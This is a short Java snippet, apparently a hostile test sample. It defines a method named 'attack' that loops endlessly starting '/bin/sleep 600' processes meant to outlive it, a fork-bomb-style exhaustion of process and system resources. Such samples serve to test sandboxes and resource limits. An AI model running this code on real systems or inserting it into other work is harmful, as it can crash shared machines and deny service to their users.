// Starts processes without end, which outlive it.
static void attack(double[] x) throws Exception {
  while (true) {
    new ProcessBuilder("/bin/sleep", "600").start();
  }
}
